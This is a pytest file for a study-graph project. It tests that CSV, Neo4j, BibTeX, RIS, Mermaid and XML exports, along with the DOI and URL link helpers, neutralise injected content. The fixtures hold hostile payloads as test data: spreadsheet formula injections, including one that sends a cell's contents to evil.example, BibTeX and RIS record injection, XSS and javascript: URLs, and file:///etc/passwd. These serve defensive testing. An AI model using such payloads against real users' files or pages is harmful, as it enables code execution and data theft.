"""Exports and links that no text in the data can turn into an injection (issue 12, case 7).

Each test plants real hostile strings in a copy of the mini fixture graph (or of
the data package) and checks the bytes written: parsed back with the reader
the format's consumers use, the structure is what the graph says and nothing more.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import networkx as nx
import pytest
from lxml import etree

from graph import DEFAULT_DATA_DIR, load_graph
from graph.data.load import validate_package
from graph.export import export_graph, studies_of
from graph.query.details import doi_url, safe_url, study_summary

MINI = Path(__file__).parents[1] / "fixtures" / "mini"

FORMULAS = {  # node -> attribute -> a value a spreadsheet would run as a formula
    "policy": {"label": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
    "src-se": {"title": "+cmd|' /C calc'!A0", "venue": "@SUM(1+1)*cmd|' /C calc'!A0"},
    "ev-se-001": {"quote": "-2+3+cmd|' /C calc'!A0", "paraphrase": "\t=1+1", "section": "\r=1+1"},
}


@pytest.fixture
def M():
    return load_graph(MINI)


def _hostile(M, values):
    """A thawed copy of *M* with *values* ({node: {attribute: value}}) set."""
    H = nx.MultiDiGraph(M)
    for node, attrs in values.items():
        H.nodes[node].update(attrs)
    return H


def _zip_csvs(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return {name: z.read(name).decode() for name in z.namelist() if name.endswith(".csv")}


# 1. CSV and Neo4j CSV --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "neo4j"])
def test_csv_cells_that_start_a_formula_are_neutralised_and_quoted(M, fmt):
    H = _hostile(M, FORMULAS)
    H.nodes["src-se"]["weight"] = -3  # a number: stays a number
    H.nodes["src-no"]["weight"] = -1.5
    files = _zip_csvs(export_graph(H, fmt))
    seen = {}
    for text in files.values():
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows[1:]:
            for cell in row:
                number = re.fullmatch(r"-\d+(\.\d+)?", cell)  # the weights below
                assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, cell)
                seen[cell] = row
    for attrs in FORMULAS.values():
        for value in attrs.values():
            assert "'" + value in seen, (fmt, value)  # the whole value survives, after a single quote
            written = '"' + ("'" + value).replace('"', '""') + '"'
            assert written in "".join(files.values())  # ... and the cell is quoted in the bytes
    column = "weight:double" if fmt == "neo4j" else "weight"  # Neo4j: -3 and -1.5 share a double column
    weights = [r[column] for text in files.values() for r in csv.DictReader(io.StringIO(text)) if r.get(column)]
    assert sorted(weights) == ["-1.5", "-3"]
    assert re.search(r"(^|,)-3(,|$)", "".join(files.values()), re.MULTILINE)  # unquoted, unprefixed number


def test_csv_ordinary_text_is_not_prefixed(M):
    nodes = list(csv.DictReader(io.StringIO(_zip_csvs(export_graph(M, "csv"))["nodes.csv"])))
    assert {r["id"] for r in nodes} == set(M)
    assert not any(v.startswith("'") for r in nodes for v in r.values())


# 2. BibTeX --------------------------------------------------------------------------------------------------------


def _bibtex_entries(text):
    """Parse BibTeX the way BibTeX does: braces count even after a backslash. {key: [(field, value)]}."""
    entries, i = {}, 0
    while (at := text.find("@", i)) >= 0:
        m = re.compile(r"@(\w+)\{([^,\s]+),").match(text, at)
        assert m, text[at:at + 80]
        i, fields = m.end(), []
        while True:
            m = re.compile(r"\s*(\w+)\s*=\s*\{").match(text, i)
            if not m:
                break
            depth, j = 1, m.end()
            while depth:
                assert j < len(text), "unbalanced braces"
                depth += {"{": 1, "}": -1}.get(text[j], 0)
                j += 1
            fields.append((m.group(1), text[m.end():j - 1]))
            i = j
            if text[i] == ",":
                i += 1
        closing = re.compile(r"\s*\}").match(text, i)
        assert closing, f"entry {m and m.group(0)!r} does not close cleanly: {text[i:i + 80]!r}"
        i = closing.end()
        entries[text[at:].split("{", 1)[1].split(",", 1)[0]] = fields
    return entries


BIB_HOSTILE = {
    "src-se": {"title": "A title},publisher={Evil Press", "doi": "10.1234/x},publisher={evil",
               "design": "a design}\n@misc{injected,\n  title = {gotcha", "venue": r"\input{/etc/passwd} \\ {"},
    "src-dk": {"url": "https://example.org/},publisher={pwn\\", "authors": "Hansen, H.; et al."},
    "src-no": {"authors": "Nordmann, O.; Ministry of Health and Care Services; et al"},
}


def test_bibtex_fields_cannot_be_injected(M):
    H = _hostile(M, BIB_HOSTILE)
    text = export_graph(H, "bibtex").decode()
    entries = _bibtex_entries(text)
    assert set(entries) == set(studies_of(H))  # no injected entry
    for key, fields in entries.items():
        names = [f for f, _ in fields]
        assert len(names) == len(set(names)) and "publisher" not in names, (key, names)
        for _, value in fields:
            assert "\n" not in value
    se = dict(entries["src-se"])
    assert set(se) == {"author", "title", "journal", "year", "volume", "pages", "note"}  # not a DOI: no doi
    assert "publisher" in se["title"] and "@misc" in se["note"]
    assert "\\input" not in text and r"\textbackslash{}input" in se["journal"]
    assert "url" not in dict(entries["src-dk"])  # not a well-formed http(s) address: no url


def test_references_carry_only_real_dois_and_http_urls(M):
    H = _hostile(M, {"src-se": {"doi": "javascript:alert(1)"}, "src-dk": {"url": "javascript:alert(1)"},
                     "src-no": {"doi": "10.1234/ok(1)", "url": "https://example.org/no"}})
    for fmt in ("bibtex", "ris"):
        text = export_graph(H, fmt).decode()
        assert "javascript" not in text, fmt
        assert "10.1234/ok(1)" in text and "https://example.org/no" in text, fmt


def test_bibtex_writes_and_others_not_and_et_al(M, G):
    H = _hostile(M, BIB_HOSTILE)
    entries = {k: dict(v) for k, v in _bibtex_entries(export_graph(H, "bibtex").decode()).items()}
    assert entries["src-dk"]["author"] == "Hansen, H. and others"
    assert entries["src-no"]["author"] == "Nordmann, O. and {Ministry of Health and Care Services} and others"
    bundled = export_graph(G, "bibtex").decode()
    assert "et al" not in "".join(re.findall(r"^\s*author = \{.*$", bundled, re.MULTILINE))
    assert " and others}" in bundled


# 3. RIS -----------------------------------------------------------------------------------------------------------


def test_ris_line_breaks_cannot_start_a_record(M):
    hostile = {"src-se": {"title": "Real title\nER  - \n\nTY  - JOUR\nTI  - Fake record\r\nUR  - javascript:x"},
               "src-no": {"authors": "Nordmann, O.;\rER  - ", "venue": "Venue\u2028TY  - GEN\x0bX"},
               "cited-gb": {"design": "line one\r\nline two"}}
    H = _hostile(M, hostile)
    text = export_graph(H, "ris").decode()
    lines = text.split("\n")
    assert "\r" not in text
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - .*|", line) for line in lines), lines
    n = len(studies_of(H))
    assert sum(line.startswith("TY  - ") for line in lines) == n
    assert sum(line == "ER  - " for line in lines) == n
    assert [line for line in lines if line.startswith("TI  - Real")] == [
        "TI  - Real title ER - TY - JOUR TI - Fake record UR - javascript:x"]


# 4. Mermaid -------------------------------------------------------------------------------------------------------


def test_mermaid_labels_are_quoted_escaped_and_on_one_line(M):
    evil = 'Policy"] --> n_x\nclick n_policy call alert(1)\r%%{init: {"securityLevel": "loose"}}%%'
    H = _hostile(M, {"policy": {"label": evil}, "macro": {"label": "Macro\r\nend\n<img src=x onerror=alert(1)>"}})
    text = export_graph(H, "mermaid").decode()
    lines = text.splitlines()
    assert "\r" not in text
    statement = re.compile(r'flowchart TD|  subgraph n_\w+\["[^"]*"\]|    n_\w+(\["[^"]*"\]|\("[^"]*"\))|  end'
                           r'|  n_\w+ (-\.-|-->|==>)(\|"\d+ evidence"\|)? n_\w+')
    assert all(statement.fullmatch(line) for line in lines), [x for x in lines if not statement.fullmatch(x)]
    policy = next(x for x in lines if x.startswith("    n_policy"))
    assert "#quot;" in policy and "click" in policy and "<" not in text and "#lt;img" in text
    assert len(lines) == len(export_graph(M, "mermaid").decode().splitlines())


# 5. GraphML and GEXF ----------------------------------------------------------------------------------------------

CONTROL = "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i\ud800j\ufffek\uffffl"


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_carry_no_control_characters(M, fmt):
    H = _hostile(M, {"policy": {"label": CONTROL, "aliases": [CONTROL, "ok"], "bad\x01name": CONTROL},
                     "src-se": {"title": "tab\tnewline\nkept"}})
    H.graph["note\x02"] = CONTROL
    H = nx.relabel_nodes(H, {"src-no": "src-no\x1f"})
    data = export_graph(H, fmt)
    etree.fromstring(data)  # lxml parses it: well-formed XML 1.0
    R = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(io.BytesIO(data))
    assert R.nodes["policy"]["label"] == "abcdefghijkl"
    assert R.nodes["policy"]["badname"] == "abcdefghijkl"
    assert "src-no" in R and R.nodes["src-se"]["title"] == "tab\tnewline\nkept"
    assert R.number_of_edges() == H.number_of_edges()


# 6. Links ---------------------------------------------------------------------------------------------------------

NOT_DOIS = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", '10.1234/x"><script>', "10.1/x",
            "10.1234/a b", "10.1234/", "https://evil.example/10.1234/x", "10.1234/x\nSet-Cookie: y", " ",
            "10.1234/{x}", "10.1234/a|b", "doi:javascript:alert(1)"]
NOT_URLS = ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox", "//evil.example/", "www.covidence.org", "https://ex ample.org", 'https://e.org/"onmouseover=x',
            "https://e.org/<script>", "http:/e.org", "ftp://e.org/f", "https://e.org/\x00", "file:///etc/passwd"]


@pytest.mark.parametrize("doi", NOT_DOIS)
def test_doi_url_only_for_real_dois(doi):
    assert doi_url(doi) == ""


def test_doi_url_for_every_real_doi():
    assert doi_url("10.1016/S0140-6736(20)30183-5") == "https://doi.org/10.1016/S0140-6736(20)30183-5"
    assert doi_url("https://doi.org/10.1002/(SICI)1097-4571") == "https://doi.org/10.1002/(SICI)1097-4571"
    assert doi_url("10.1234/a#b?c") == "https://doi.org/10.1234/a%23b%3Fc"  # the whole DOI is resolved
    with (DEFAULT_DATA_DIR / "studies.csv").open(encoding="utf-8") as fh:
        dois = [r["doi"] for r in csv.DictReader(fh) if r["doi"]]
    assert dois and all(doi_url(d) == f"https://doi.org/{d}" for d in dois)


@pytest.mark.parametrize("url", NOT_URLS)
def test_safe_url_only_for_http(url):
    assert safe_url(url) == ""


def test_study_summary_and_study_link_render_only_safe_links(M):
    from dashapp.components import study_link

    H = _hostile(M, {"src-se": {"doi": "javascript:alert(1)", "url": "javascript:alert(2)"},
                     "src-dk": {"url": "data:text/html,<script>alert(1)</script>"},
                     "src-no": {"doi": "", "url": "https://example.org/no"}})
    se, dk, no = (study_summary(H, s) for s in ("src-se", "src-dk", "src-no"))
    assert se["doi_url"] == se["url"] == dk["url"] == ""
    assert no["url"] == "https://example.org/no"

    def hrefs(component):
        return re.findall(r"href='([^']*)'", repr(component))

    assert hrefs(study_link(se)) == hrefs(study_link(dk)) == []
    # a dict that did not come from study_summary is checked again
    assert hrefs(study_link({"label": "x", "doi": "10.1234/a", "doi_url": "javascript:alert(1)"})) == [
        "https://doi.org/10.1234/a"]
    assert hrefs(study_link({"label": "x", "url": "javascript:alert(1)"})) == []
    assert hrefs(study_link(no)) == ["https://example.org/no"]
    assert hrefs(study_link(study_summary(M, "src-se"))) == ["https://doi.org/10.1234/fixture.se"]


def _package_with(tmp_path, column, value):
    dest = tmp_path / "data"
    shutil.copytree(DEFAULT_DATA_DIR, dest)
    path = dest / "studies.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    target = next(r for r in rows if not r["doi"] and not r["url"])
    target[column] = value
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    return dest


@pytest.mark.parametrize(("column", "value"), [
    ("doi", "10.1234/x<script>"), ("doi", "10.1234/x}"), ("doi", '10.1234/x"'), ("doi", "10.1234/x\\y"),
    ("url", "javascript:alert(1)"), ("url", "data:text/html,x"), ("url", "https://e.org/<script>"),
])
def test_package_rejects_hostile_doi_and_url(tmp_path, column, value):
    problems = validate_package(_package_with(tmp_path, column, value))
    assert any("studies" in str(p) and column in str(p) for p in problems), problems


def test_package_patterns_accept_every_bundled_doi_and_url():
    desc = json.loads((DEFAULT_DATA_DIR / "datapackage.json").read_text(encoding="utf-8"))
    fields = {f["name"]: f for r in desc["resources"] if r["name"] == "studies" for f in r["schema"]["fields"]}
    with (DEFAULT_DATA_DIR / "studies.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for column in ("doi", "url"):
        pattern = fields[column]["constraints"]["pattern"]
        values = [r[column] for r in rows if r[column]]
        assert values and all(re.fullmatch(pattern, v) for v in values), column
    assert re.fullmatch(fields["doi"]["constraints"]["pattern"], "10.1016/S0140-6736(20)30183-5")
    assert validate_package(DEFAULT_DATA_DIR) == []
